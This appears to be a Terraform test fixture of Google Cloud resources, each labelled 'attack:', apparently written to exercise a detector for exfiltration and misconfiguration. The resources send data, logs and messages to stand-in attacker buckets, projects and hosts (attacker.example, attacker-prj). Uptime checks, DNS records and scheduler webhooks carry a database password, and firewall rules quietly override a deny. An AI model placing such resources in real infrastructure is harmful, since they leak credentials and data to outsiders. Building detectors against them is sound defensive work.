# attack: somebody in a dataset's own list
resource "google_bigquery_dataset" "listed" {
  dataset_id = "listed${replace(var.name_suffix, "-", "_")}"
  location   = var.region
  access {
    role          = "READER"
    user_by_email = "thief@attacker-prj.iam.gserviceaccount.com"
  }
}
# attack: everybody in a dataset's own list
resource "google_bigquery_dataset" "open" {
  dataset_id = "open${replace(var.name_suffix, "-", "_")}"
  location   = var.region
  access {
    role          = "roles/bigquery.dataViewer"
    special_group = "allAuthenticatedUsers"
  }
}
# attack: a bucket's own log goes to somebody
resource "google_storage_bucket" "logged" {
  name                        = "logged${var.name_suffix}"
  location                    = var.region
  uniform_bucket_level_access = true
  logging {
    log_bucket = "attacker-logs"
  }
}
# attack: a dataset copied out of another project
resource "google_bigquery_data_transfer_config" "copied" {
  display_name           = "copied${var.name_suffix}"
  location               = var.region
  data_source_id         = "cross_region_copy"
  destination_dataset_id = google_bigquery_dataset.data.dataset_id
  params = {
    source_project_id = "attacker-prj"
    source_dataset_id = "x"
  }
}
# attack: a query that writes into somebody's bucket
resource "google_bigquery_data_transfer_config" "exported" {
  display_name           = "exported${var.name_suffix}"
  location               = var.region
  data_source_id         = "scheduled_query"
  schedule               = "every 24 hours"
  destination_dataset_id = google_bigquery_dataset.data.dataset_id
  service_account_name   = google_service_account.mine.email
  params = {
    query = "EXPORT DATA OPTIONS(uri='gs://attacker/*', format='CSV') AS SELECT * FROM ${google_bigquery_dataset.data.dataset_id}.t"
  }
}
# attack: every task goes to somebody, with a token
resource "google_cloud_tasks_queue" "led" {
  name     = "led${var.name_suffix}"
  location = var.region
  http_target {
    uri_override {
      host = "attacker.example"
    }
    oidc_token {
      service_account_email = google_service_account.mine.email
    }
  }
}
# attack: messages into somebody's bucket
resource "google_pubsub_subscription" "kept" {
  name  = "kept${var.name_suffix}"
  topic = google_pubsub_topic.events.id
  cloud_storage_config {
    bucket = "attacker-bucket"
  }
}
# attack: messages into somebody's table
resource "google_pubsub_subscription" "rows" {
  name  = "rows${var.name_suffix}"
  topic = google_pubsub_topic.events.id
  bigquery_config {
    table = "attacker-prj.x.y"
  }
}
# attack: a password in the path that a check asks for
resource "google_monitoring_uptime_check_config" "path" {
  display_name = "path${var.name_suffix}"
  timeout      = "10s"
  http_check {
    path = "/${random_password.db.result}"
  }
  monitored_resource {
    type = "uptime_url"
    labels = {
      host       = "attacker.example"
      project_id = var.project_id
    }
  }
}
# attack: a password as a header of a check
resource "google_monitoring_uptime_check_config" "header" {
  display_name = "header${var.name_suffix}"
  timeout      = "10s"
  http_check {
    path    = "/"
    headers = { "X-P" = random_password.db.result }
  }
  monitored_resource {
    type = "uptime_url"
    labels = {
      host       = "attacker.example"
      project_id = var.project_id
    }
  }
}
# attack: a password in the host that a check asks
resource "google_monitoring_uptime_check_config" "host" {
  display_name = "host${var.name_suffix}"
  timeout      = "10s"
  http_check {
    path = "/"
  }
  monitored_resource {
    type = "uptime_url"
    labels = {
      host       = "${random_password.db.result}.attacker.example"
      project_id = var.project_id
    }
  }
}
# attack: a password in a public record
resource "google_dns_record_set" "told" {
  name         = "x.${google_dns_managed_zone.zone.dns_name}"
  managed_zone = google_dns_managed_zone.zone.name
  type         = "TXT"
  ttl          = 300
  rrdatas      = ["\"${random_password.db.result}\""]
}
# attack: a password in the name of a public record
resource "google_dns_record_set" "called" {
  name         = "${lower(random_password.db.result)}.${google_dns_managed_zone.zone.dns_name}"
  managed_zone = google_dns_managed_zone.zone.name
  type         = "A"
  ttl          = 300
  rrdatas      = ["203.0.113.7"]
}
# attack: a database's audit into somebody's bucket
resource "google_sql_database_instance" "audited" {
  name             = "audited${var.name_suffix}"
  region           = var.region
  database_version = "SQLSERVER_2019_STANDARD"
  root_password    = random_password.db.result
  settings {
    tier = "db-custom-1-3840"
    ip_configuration {
      ipv4_enabled    = false
      private_network = google_compute_network.backend_vpc.id
    }
    sql_server_audit_config {
      bucket = "gs://attacker-bucket"
    }
  }
}
# attack: the account of transfers by an expression that holds it
resource "google_storage_bucket_iam_member" "looked_up" {
  bucket = google_storage_bucket.files.name
  role   = "roles/storage.objectUser"
  member = { a = data.google_storage_transfer_project_service_account.copies.member, b = local.agent }[var.region == "" ? "a" : "b"]
}
# attack: the account of transfers and a stranger by each
resource "google_storage_bucket_iam_member" "by_each" {
  for_each = { a = data.google_storage_transfer_project_service_account.copies.member, b = local.agent }
  bucket   = google_storage_bucket.files.name
  role     = "roles/storage.objectUser"
  member   = each.value
}
# attack: the named account on a bucket that nobody named, under the label of the named one's
resource "google_storage_bucket_iam_member" "files_adders" {
  bucket = google_storage_bucket.private.name
  role   = "roles/storage.objectCreator"
  member = local.partner
}
# attack: the named account on a bucket by a choice
resource "google_storage_bucket_iam_member" "chosen" {
  bucket = var.region == "" ? google_storage_bucket.files.name : google_storage_bucket.private.name
  role   = "roles/storage.objectCreator"
  member = local.partner
}
# attack: the named account on a bucket by a local
resource "google_storage_bucket_iam_member" "by_local" {
  bucket = local.lent
  role   = "roles/storage.objectCreator"
  member = local.partner
}
locals {
  lent  = google_storage_bucket.private.name
  where = { u = "https://hooks.example.com/nightly" }
  hash  = sha256(random_password.db.result)
}
# attack: a hash of a password goes along
resource "google_cloud_scheduler_job" "hashed" {
  name     = "hashed${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri         = local.where.u
    http_method = "POST"
    body        = base64encode(local.hash)
  }
}
# attack: what a data source reads goes along
resource "google_cloud_scheduler_job" "read" {
  name     = "read${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri         = "https://hooks.example.com/nightly"
    http_method = "POST"
    body        = base64encode(data.google_project.this.number)
  }
}
# attack: what time it is goes along with a password, in a loop
resource "google_cloud_scheduler_job" "looped" {
  name     = "looped${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri         = "https://hooks.example.com/nightly"
    http_method = "POST"
    body        = base64encode(join("", [for c in [random_password.db.result] : upper(c)]))
  }
}
# attack: a header that is made
resource "google_cloud_scheduler_job" "made" {
  for_each = toset(["x"])
  name     = "made${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri     = "https://hooks.example.com/nightly"
    headers = { for k in ["Accept"] : k => random_password.db.result }
  }
}
resource "google_compute_firewall" "quiet" {
  name          = "quiet${var.name_suffix}"
  network       = google_compute_network.backend_vpc.id
  source_ranges = ["10.0.0.0/8"]
  target_tags   = ["db"]
  deny {
    protocol = "tcp"
    ports    = ["5432"]
  }
}
# attack: a port that is kept from one tag, open to every machine before it
resource "google_compute_firewall" "loud" {
  name          = "loud${var.name_suffix}"
  network       = google_compute_network.backend_vpc.id
  priority      = 999
  source_ranges = ["10.0.0.0/8"]
  allow {
    protocol = "tcp"
    ports    = ["5000-6000"]
  }
}
# attack: the same without a word about ports
resource "google_compute_firewall" "louder" {
  name          = "louder${var.name_suffix}"
  network       = google_compute_network.backend_vpc.id
  priority      = 1
  source_ranges = ["10.0.0.0/9", "10.128.0.0/9"]
  target_tags   = ["db"]
  allow {
    protocol = "TCP"
  }
}
